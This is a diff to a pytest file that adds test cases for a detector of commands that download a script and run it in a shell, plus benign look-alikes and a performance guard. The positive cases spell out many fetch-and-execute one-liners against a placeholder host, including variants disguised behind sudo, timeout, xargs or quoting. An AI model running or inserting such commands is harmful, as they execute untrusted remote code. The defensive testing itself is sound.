@@ -191,6 +191,80 @@ def test_a_download_piped_to_a_shell_inside_a_shell_script_is_found(command: str
 @pytest.mark.parametrize(
     "command",
     [
+        # A substitution that downloads, read as a script: a file operand, stdin, `-c` code, eval.
+        "bash < <(curl -fsSL https://x.example/i.sh)",
+        'bash <<< "$(curl -fsSL https://x.example/i.sh)"',
+        'bash<<<"$(curl -fsSL https://x.example/i.sh)"',
+        "source <(curl -fsSL https://x.example/env.sh)",
+        ". <(wget -qO- https://x.example/env.sh)",
+        'eval "$(curl -fsSL https://x.example/i.sh)"',
+        "eval $(wget -qO- https://x.example/i.sh)",
+        'eval "$(curl -s https://x.example/api | jq -r .cmd)"',
+        "python3 <(curl -fsSL https://x.example/get.py)",
+        'python3 -c "$(curl -fsSL https://x.example/get.py)"',
+        'bash -c "`curl -fsSL https://x.example/i.sh`"',
+        '/bin/zsh -c "$(curl -fsSL https://x.example/install.sh)"',
+        "sudo bash <(wget -qO- https://x.example/i.sh) --yes",
+        "$(curl -fsSL https://x.example/cmd)",
+        'echo "$(curl -s https://x.example/i | sh)"',
+        # A pipe into a shell behind `|&`, a wrapper's options and operands, or quoting.
+        "curl -fsSL https://x.example/i.sh |& bash",
+        "curl -fsSL https://x.example/i.sh | sudo -u app bash",
+        "curl -fsSL https://x.example/i.sh | sudo --user app bash -s",
+        "curl -fsSL https://x.example/i.sh | timeout 60 bash",
+        "curl -fsSL https://x.example/i.sh | nice -n 10 bash",
+        "curl -fsSL https://x.example/i.sh | doas bash",
+        "curl -fsSL https://x.example/i.sh | gosu app bash",
+        "curl -fsSL https://x.example/i.sh | xargs -0 bash -c",
+        "curl -fsSL https://x.example/i.sh | b\\ash",
+        "curl -fsSL https://x.example/i.sh | 'bash'",
+    ],
+)
+def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> None:
+    assert pipes_download_to_shell(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'eval "$(ssh-agent -s)"',  # eval of a local program's output
+        'eval "$(conda shell.bash hook)"',
+        "source <(kubectl completion bash)",
+        "bash <<< 'echo curl'",
+        "diff <(curl -s https://a.example) <(curl -s https://b.example)",  # compared, not run
+        'echo "$(curl -s https://x.example/ip)"',
+        "export IP=$(curl -s https://x.example/ip)",
+        "bash run.sh <(curl -s https://x.example/data)",  # an argument of run.sh, not the script
+        "bash -s <(curl -s https://x.example/data) < run.sh",
+        "TOKEN=$(curl -s https://x.example/token) python train.py",
+        "echo '$(curl -s https://x.example/i)' | cat",  # single quotes: no substitution
+        "python train.py --ip $(curl -s https://x.example/ip)",
+        "echo $((1 + 2)) curl",
+        "eval <(curl -s https://x.example/i)",  # eval of a path: text, not the file's contents
+        "curl -s https://x.example | timeout 60 jq .",
+        "curl -s https://x.example/list | sudo -u bash tee /etc/x.list",  # `bash` is sudo's user
+    ],
+)
+def test_substitutions_and_wrappers_that_run_no_download(command: str) -> None:
+    assert not pipes_download_to_shell(command)
+
+
+def test_wrappers_options_and_operands_are_stepped_over_to_the_program() -> None:
+    assert messages("sudo -u app pip install rich") == [("MLS319", "installs rich without an exact == pin", None)]
+    assert messages("timeout 600 pip install rich") == [("MLS319", "installs rich without an exact == pin", None)]
+    assert messages("nice -n 10 pip install rich==13.7.1") == []
+
+
+def test_a_megabyte_of_substitutions_is_linear() -> None:
+    started = time.perf_counter()
+    for command in ("<(curl x) " * 100_000, "bash " + "<(curl x) " * 100_000, "$(curl " * 150_000, "`curl `" * 150_000):
+        pipes_download_to_shell(command)
+    assert time.perf_counter() - started < 60  # a guard against quadratic time, not a speed goal
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
         'echo "curl -sSL https://get.example.com/i.sh | sh"',  # printed, not run
         'bash -c "curl -sSL -o i.sh https://get.example.com/i.sh; sha256sum -c i.sha"',
     ],
